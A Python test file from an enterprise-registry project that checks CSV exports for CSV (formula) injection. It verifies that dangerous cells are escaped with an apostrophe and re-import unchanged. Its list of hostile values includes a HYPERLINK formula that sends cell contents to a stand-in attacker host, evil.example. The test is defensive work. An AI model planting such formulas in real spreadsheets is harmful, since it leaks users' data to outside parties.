"""CSV exports carry no live spreadsheet formulas, and still re-import as they are (issue #17).

A cell that begins with = + - @, a tab or a carriage return is run by a spreadsheet as a formula
(OWASP "CSV injection"). Every CSV yuanqu writes prefixes such text with an apostrophe, which the
spreadsheet shows as text and the importer takes off again; numbers, negative ones too, stay
numbers.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from sqlalchemy import select

from tests.factories.registry import make_firm
from yuanqu.core.tabular import RowError, csv_cell, csv_unescape, write_error_report
from yuanqu.core.terminal import OutputFormat, emit_rows
from yuanqu.registry.export import export_enterprises
from yuanqu.registry.importer import import_enterprises
from yuanqu.registry.models import Enterprise
from yuanqu.registry.schemas import EnterpriseFilter

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "=1+1",
    "@SUM(1)",
    "+1+1",
    "-1+1",
    "-ABC",
    "\t=1+1",
    "'=1+1",
]


def live_formulas(text: str) -> list[str]:
    """Cells a spreadsheet would run: they begin with a formula character and are no number."""
    found = []
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                try:
                    float(cell.replace(",", "").removesuffix("%"))
                except ValueError:
                    found.append(cell)
    return found


class TestTheRule:
    @pytest.mark.parametrize("value", [*HOSTILE, "''-x", "'plain", "plain", "", "-", "'"])
    def test_escaping_is_undone_exactly(self, value: str) -> None:
        assert csv_unescape(csv_cell(value)) == value

    @pytest.mark.parametrize("value", ["-5", "-3.2%", "-1,234.50", "+7", 5, -5, -2.5])
    def test_numbers_stay_numbers(self, value) -> None:
        assert csv_cell(value) == value


class TestRegistryExport:
    def test_hostile_names_export_escaped_and_reimport_unchanged(self, session, tmp_path) -> None:
        firms = [make_firm(session, name=name, address="-1+1 号") for name in HOSTILE]
        codes = [f.uscc for f in firms]
        path = tmp_path / "firms.csv"
        export_enterprises(
            session, filters=EnterpriseFilter(usccs=codes), path=path, layout="canonical"
        )
        text = path.read_text(encoding="utf-8")
        assert live_formulas(text) == []
        assert "'=1+1" in text and "'-ABC" in text

        import_enterprises(session, source=path, upsert=True)
        session.expire_all()
        names = dict(
            session.execute(
                select(Enterprise.uscc, Enterprise.name).where(Enterprise.uscc.in_(codes))
            ).all()
        )
        # parse_text strips surrounding whitespace, so the tab of "\t=1+1" goes as in any import.
        assert [names[c] for c in codes] == [n.strip() for n in HOSTILE]
        addresses = session.scalars(select(Enterprise.address).where(Enterprise.uscc.in_(codes)))
        assert set(addresses) == {"-1+1 号"}

    def test_numbers_are_written_as_numbers(self, session, tmp_path) -> None:
        firm = make_firm(session, name="-ABC", registered_capital_fen=12_345, employees=7)
        path = tmp_path / "firms.csv"
        export_enterprises(
            session, filters=EnterpriseFilter(usccs=[firm.uscc]), path=path, layout="canonical"
        )
        row = next(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
        assert (row["registered_capital"], row["employees"]) == ("123.45", "7")
        assert row["name"] == "'-ABC"


class TestOtherCsv:
    def test_cli_csv_output(self, capsys) -> None:
        rows = [
            {
                "name": "=1+1",
                "growth": -5,
                "yuan": Decimal("-0.50"),
                "share": "-3.2",
                "note": "@SUM(1)",
            }
        ]
        emit_rows(rows, OutputFormat.csv)
        out = capsys.readouterr().out
        assert live_formulas(out) == []
        row = next(csv.DictReader(io.StringIO(out)))
        assert row == {
            "name": "'=1+1",
            "growth": "-5",
            "yuan": "-0.50",
            "share": "-3.2",
            "note": "'@SUM(1)",
        }

    def test_error_report_csv(self, tmp_path) -> None:
        errors = [
            RowError(2, "name", HOSTILE[0], "坏", "bad"),
            RowError(3, "x", "-1+1", "坏", "bad"),
        ]
        path = write_error_report(errors, tmp_path / "errors.csv")
        assert live_formulas(path.read_text(encoding="utf-8-sig")) == []
